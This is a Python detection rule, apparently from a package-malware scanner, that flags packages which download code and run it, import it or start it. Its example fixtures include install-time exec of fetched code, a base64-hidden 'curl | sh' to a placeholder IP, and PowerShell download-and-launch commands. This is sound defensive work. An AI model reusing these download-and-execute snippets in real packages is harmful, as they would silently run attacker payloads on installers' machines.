"""Second stage: what comes from the network is executed."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import replace

from pratique.facts.model import PackageFacts
from pratique.facts.python.model import Call, Does, Taint
from pratique.facts.shell import ShellFacts, read_shell
from pratique.finding import Behaviour, Confidence, Finding, Phase, Severity
from pratique.rules.claims import calls, claim, command, holds_little, is_aside, when
from pratique.rules.destinations import hidden, obscure
from pratique.rules.fetched import (
    builds,
    fetched_code,
    fetched_input,
    fetched_module,
    fetched_program,
    from_an_index,
    handed_in,
    is_checked,
    is_handed_on,
    is_pinned,
    is_wrapped,
    origin,
)
from pratique.rules.rule import Example, Rule

_ID = "second-stage"
_PLACE = re.compile(
    r"[a-z]{2,8}://(?!localhost|127\.|0\.0\.0\.0|\[?::1|10\.|192\.168\.|<|/|$)|"
    r"(?<![\d./])(?!127\.|0\.|10\.|192\.168\.)\d{1,3}(?:\.\d{1,3}){3}"
)
"""Another's machine. Without one in the code, what is fetched is the caller's choice: unpacking it is no hiding."""
_FIXED = re.compile(r"https?://[^\s<>/]{1,100}\.[^\s<>/.]{2,60}/[^\s<>]")
_LOADERS = frozenset(("pickle.loads", "pickle.load", "pickle.Unpickler().load", "joblib.load", "jsonpickle.decode"))
"""What they read are bytes, which messages of text carry encoded: that hides nothing."""
_ARCHIVE = re.compile(r"(?:^|\s)https?://\S{1,400}\.(?:whl|zip|tar\.gz|tgz)\b")
_ELSEWHERE = re.compile(r"(^|\s|=|@)(git\+|hg\+)?(https?|ssh|ftp)://")


def _check(facts: PackageFacts) -> Iterator[Finding]:
    small = holds_little(facts)
    for path, call in calls(facts):
        if Does.RUN_CODE in call.does and (taints := fetched_code(call)):
            yield _finding(path, call, taints, f"code fetched from {origin(taints)} is executed {when(call.phase)}")
        elif Does.IMPORT in call.does and call.phase.automatic and (taints := fetched_module(call)):
            yield _finding(path, call, taints, f"a module fetched from {origin(taints)} is loaded {when(call.phase)}")
        elif Does.RUN_PROCESS in call.does:
            yield from _process(facts, path, call, small=small and not is_aside(facts, path))
    for script in facts.shells:
        if script.runs_download and facts.index[script.path].role.value != "script":
            yield _script(script)


def _process(facts: PackageFacts, path: str, call: Call, *, small: bool) -> Iterator[Finding]:
    if taints := fetched_program(call) or fetched_input(call):
        message = f"a program fetched from {origin(taints)} is run {when(call.phase)}"
        source = facts.index.get(path)
        finding = _finding(path, call, taints, message, small=small, checked=is_checked(source))
        helper = call.phase is Phase.INSTALL and not path.endswith(
            "setup.py"
        )  # a module that a build asks for a library
        library = not finding.proven and builds(call) and (helper or is_pinned(source))
        yield replace(finding, severity=Severity.HIGH, confidence=Confidence.LOW) if library else finding
        return
    shell = read_shell(_line(call))
    if not shell.runs_download and (text := handed_in(call)):
        shell = read_shell(text.text)
    if shell.runs_download:
        yield _finding(path, call, (), f"a command fetches {_first(shell)} and runs it {when(call.phase)}", small=small)
    elif (place := _from_elsewhere(shell)) and call.phase.automatic:
        yield _installed(path, call, place)


def _line(call: Call) -> str:
    """The command; pip called in this process has it without its own name."""
    return f"pip {command(call)}" if call.name == "pip.main" else command(call)


def _from_elsewhere(shell: ShellFacts) -> str:
    """What a package manager installs by address, or the index of nobody's choice that it is sent to."""
    return next((line for line in shell.installs if _ELSEWHERE.search(line)), "")


def _installed(path: str, call: Call, place: str) -> Finding:
    covert = hidden(call, place)
    sure = covert or (call.phase is not Phase.INSTALL and _ARCHIVE.search(place) is not None)
    return claim(
        _ID,
        Behaviour.SECOND_STAGE,
        path,
        call,
        f"a package is installed from {place[:160]} {when(call.phase)}",
        severity=Severity.CRITICAL if sure else Severity.MEDIUM,
        confidence=Confidence.HIGH if sure else Confidence.LOW,
        proven=covert and "-i" not in place.split(),
    )


def _finding(
    path: str, call: Call, taints: tuple[Taint, ...], message: str, *, small: bool = False, checked: bool = False
) -> Finding:
    places = " ".join([*(t.detail for t in taints), command(call)])
    handed_on = call.phase is Phase.CALL and is_handed_on(call)
    plain = handed_on or call.name in _LOADERS or builds(call)  # its name is taken apart, as of a listing or a release
    covert = (obscure if plain else hidden)(call, places) and (
        call.phase.automatic or _PLACE.search(places) is not None or bool(call.layers)
    )
    sure = call.phase.automatic or covert
    bare = small and not (sure or handed_on) and _FIXED.search(places) is not None and not is_wrapped(call)
    return claim(
        _ID,
        Behaviour.SECOND_STAGE,
        path,
        call,
        message,
        severity=Severity.CRITICAL if sure or bare else Severity.HIGH,
        confidence=Confidence.HIGH if sure or bare else Confidence.LOW,
        proven=sure and (covert or not (from_an_index(taints) or checked or builds(call))),
        taints=taints,
    )


def _first(shell: ShellFacts) -> str:
    return shell.downloads[0] if shell.downloads else "a program"


def _script(script: ShellFacts) -> Finding:
    return Finding(
        rule=_ID,
        behaviour=Behaviour.SECOND_STAGE,
        severity=Severity.LOW,
        confidence=Confidence.LOW,
        phase=Phase.CALL,
        path=script.path,
        line=script.line,
        message=f"a script fetches {_first(script)} and runs it",
        code=script.code,
    )


RULE = Rule(
    id=_ID,
    behaviour=Behaviour.SECOND_STAGE,
    summary="What is fetched from the network is executed, imported, or written to a file and run.",
    gain="The real payload never lies in the package: the attacker chooses it later, per victim, and takes it away again.",
    honest="Downloaders of models, browsers and data write files and do not run them; tools that run what they fetched do "
    "so when a person calls them, from the vendor's own host.",
    blocks="When it happens by itself: while the package is installed, whenever Python starts, or when it is imported.",
    check=_check,
    loud=(
        Example(
            title="executed at install, through an import alias",
            files={"setup.py": "import requests as r\nexec(r.get('https://stage.example.invalid/a').text)\n"},
        ),
        Example(
            title="through __import__ and getattr",
            files={
                "setup.py": "u = __import__('urllib.request', fromlist=['x'])\n"
                "getattr(__import__('builtins'), 'ex' + 'ec')(u.urlopen('http://192.0.2.7/a').read())\n"
            },
        ),
        Example(
            title="behind one decoder layer",
            files={
                "setup.py": "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCBodHRwOi8vMTkyLjAuMi43L2EgfCBzaCcp'))\n"
            },
        ),
        Example(
            title="written to a file and started when imported",
            files={
                "pkg/__init__.py": "import os, urllib.request\np = os.path.join(os.getenv('TEMP'), 'a.exe')\n"
                "with open(p, 'wb') as f:\n    f.write(urllib.request.urlopen('http://192.0.2.7/a').read())\nos.startfile(p)\n"
            },
        ),
        Example(
            title="in a package that holds nothing else, when called",
            files={
                "pkg/__init__.py": "import os, urllib.request as u\ndef start():\n"
                "    u.urlretrieve('https://c.example.invalid/s/a.exe', 'a.exe')\n    getattr(os, 'start' + 'file')('a.exe')\n"
            },
        ),
        Example(
            title="a package by its address, when imported",
            files={
                "pkg/__init__.py": "import os, sys\n"
                "os.system(sys.executable + ' -m pip install https://c.example.invalid/a-1.0-py3-none-any.whl')\n"
            },
        ),
        Example(
            title="moved before it is started",
            files={
                "pkg/__init__.py": "import os, requests as r\nfrom pathlib import Path\nopen('a.tmp', 'wb').write(r.get('https://c.example.invalid/a').content)\n"
                "Path('a.tmp').rename('C:/ProgramData/b.exe')\ngetattr(os, 'start' + 'file')('C:/ProgramData/b.exe')\n"
            },
        ),
        Example(
            title="unpacked by a command, and started from there",
            files={
                "setup.py": "import os\nos.system('powershell -command Invoke-WebRequest -Uri https://c.example.invalid/u.zip -OutFile t/u.zip; "
                "Expand-Archive -LiteralPath t/u.zip -DestinationPath C:/ProgramData; wscript.exe //B C:/ProgramData/U/l.vbs')\n"
            },
        ),
        Example(
            title="a repository, cloned and started",
            files={
                "setup.py": "import os, subprocess, git\ngit.Repo.clone_from('https://c.example.invalid/a.git', '/tmp/a')\n"
                "os.chdir('/tmp/a')\nsubprocess.run(['python', 'run.py'])\n"
            },
        ),
    ),
    quiet=(
        Example(
            title="data that is fetched, moved and read",
            files={
                "pkg/__init__.py": "import os, urllib.request as u\ndef data(to):\n    u.urlretrieve('https://c.example.invalid/d.csv', to + '.part')\n"
                "    os.rename(to + '.part', to)\n    return open(to).read()\n"
            },
        ),
        Example(
            title="a model downloader",
            files={
                "pkg/__init__.py": "import requests\ndef fetch(path):\n    r = requests.get('https://models.example.invalid/m')\n"
                "    open(path, 'wb').write(r.content)\n"
            },
        ),
        Example(
            title="the version is read from a file",
            files={
                "setup.py": "exec(open('pkg/version.py').read())\nfrom setuptools import setup\nsetup(name='pkg')\n"
            },
        ),
    ),
)
